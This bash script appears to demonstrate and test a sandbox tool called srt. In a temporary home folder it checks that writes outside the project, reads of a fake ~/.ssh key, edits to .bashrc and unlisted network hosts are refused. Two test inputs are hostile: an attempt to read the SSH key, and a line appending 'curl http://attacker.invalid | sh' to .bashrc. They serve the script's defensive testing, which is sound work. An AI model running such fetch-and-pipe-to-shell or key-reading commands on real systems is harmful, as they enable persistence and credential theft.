#!/usr/bin/env bash
# A short demonstration of what srt does, in a throw-away project folder with
# a throw-away home folder (the real ~/.ssh is never touched). Each step shows
# the command, what the user sees, and whether srt behaved as expected.
# Exits 0 when every step did.
set -uo pipefail
cd "$(dirname "$0")/.."
SRT=${SRT_BIN:-$PWD/build/srt}
PY=/usr/bin/python3

if [ ! -x "$SRT" ]; then
	echo "demo: $SRT not found; run 'make build' first" >&2
	exit 1
fi

work=$(mktemp -d "${TMPDIR:-/var/tmp}/srt-demo.XXXXXX")
server_pid=
cleanup() {
	if [ -n "$server_pid" ]; then kill "$server_pid" 2>/dev/null; wait "$server_pid" 2>/dev/null; fi
	rm -rf "$work"
}
trap cleanup EXIT

home=$work/home
project=$home/project
mkdir -p "$home/.ssh" "$project"
chmod 700 "$home/.ssh"
echo "-----BEGIN DEMO KEY (not a real key)-----" >"$home/.ssh/id_rsa"
chmod 600 "$home/.ssh/id_rsa"
cat >"$home/.srt-settings.json" <<'JSON'
{
  "filesystem": {
    "denyRead": ["~/.ssh"],
    "allowWrite": ["."]
  }
}
JSON

failures=0
step=0

indent() { sed 's/^/    /'; }

# sandboxed COMMAND_STRING (no single quotes in it): runs it under srt in the project, as the user
# would, and leaves the output in $out and the exit status in $status.
sandboxed() {
	printf "\n  %s\$ srt -c '%s'\n" "${project/#$home/\~}" "$1"
	out=$(cd "$project" && HOME=$home "$SRT" -c "$1" </dev/null 2>&1)
	status=$?
	if [ -n "$out" ]; then printf '%s\n' "$out" | indent; fi
	printf '    [exit status %d]\n' "$status"
}

# The command ran and failed: 125 and up would mean srt itself failed (or
# could not run the command), which refuses nothing.
refused() {
	[ "$status" -gt 0 ] && [ "$status" -lt 125 ]
}

title() {
	step=$((step + 1))
	printf '\n%d. %s\n' "$step" "$1"
}

verdict() { # verdict CONDITION_STATUS MESSAGE
	if [ "$1" -eq 0 ]; then
		printf '  ok: %s\n' "$2"
	else
		printf '  UNEXPECTED: %s\n' "$2"
		failures=$((failures + 1))
	fi
}

echo "srt demo: a project at ~/project, with this ~/.srt-settings.json:"
indent <"$home/.srt-settings.json"
echo "(HOME is a temporary folder: $home)"

title "A write outside the project is refused"
sandboxed 'echo pwned > ~/outside.txt'
refused && [ ! -e "$home/outside.txt" ]
verdict $? "the write failed and ~/outside.txt does not exist on the host"

title "~/.ssh is hidden (denyRead)"
printf '\n  outside the sandbox:\n  $ ls ~/.ssh\n'
ls "$home/.ssh" | indent
sandboxed 'ls -A ~/.ssh; cat ~/.ssh/id_rsa'
refused && [[ "$out" != *"DEMO KEY"* ]]
verdict $? "the folder looks empty inside the sandbox and the key cannot be read"

title "A protected file is refused even inside the writable project"
sandboxed 'echo "curl http://attacker.invalid | sh" >> .bashrc'
refused && [ ! -e "$project/.bashrc" ]
verdict $? ".bashrc was not created, and srt left no placeholder file behind"

title "Only allowed hosts are reachable, through srt's proxy"
port_file=$work/port
$PY -c '
import http.server, sys
class Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"hello from a server on the host\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", 0), Hello)
with open(sys.argv[1] + ".tmp", "w") as f:
    f.write(str(server.server_address[1]))
import os; os.rename(sys.argv[1] + ".tmp", sys.argv[1])
server.serve_forever()
' "$port_file" &
server_pid=$!
for _ in $(seq 50); do [ -s "$port_file" ] && break; sleep 0.1; done
port=$(cat "$port_file" 2>/dev/null || true)
if [ -z "$port" ]; then
	verdict 1 "could not start the loopback test server"
else
	printf '\n  outside the sandbox:\n  $ curl -sS --max-time 2 http://127.0.0.1:%s/\n' "$port"
	curl -sS --max-time 2 "http://127.0.0.1:$port/" 2>&1 | indent
	sandboxed "curl -sS --max-time 2 http://127.0.0.1:$port/"
	refused && [[ "$out" != *"hello from a server"* ]]
	verdict $? "the sandbox has its own empty network: the host's server is out of reach"

	# Denied before any lookup: the proxy answers itself, nothing leaves.
	sandboxed "curl -sS --max-time 2 http://example.com/"
	[[ "$out" == *"denied"* && "$out" == *"example.com:80"* ]]
	verdict $? "example.com is in no allowedDomains entry: srt's proxy answered 403 and named the rule"

	cat >"$home/.srt-settings.json" <<JSON
{
  "filesystem": { "denyRead": ["~/.ssh"], "allowWrite": ["."] },
  "network": { "allowedDomains": ["127.0.0.1:$port"] }
}
JSON
	printf '\n  with "network": {"allowedDomains": ["127.0.0.1:%s"]} in ~/.srt-settings.json:' "$port"
	sandboxed "curl -sS --max-time 2 --noproxy \"\" http://127.0.0.1:$port/"
	[ "$status" -eq 0 ] && [[ "$out" == *"hello from a server"* ]]
	verdict $? "the allowed host answered through srt's proxy"
fi

title "A write inside the project is allowed"
sandboxed 'echo hello > notes.txt && cat notes.txt'
[ "$status" -eq 0 ] && [ "$(cat "$project/notes.txt" 2>/dev/null)" = hello ]
verdict $? "notes.txt was written in the project"

echo
if [ "$failures" -eq 0 ]; then
	echo "demo: all $step steps behaved as expected"
	exit 0
fi
echo "demo: $failures of $step steps did not behave as expected" >&2
exit 1
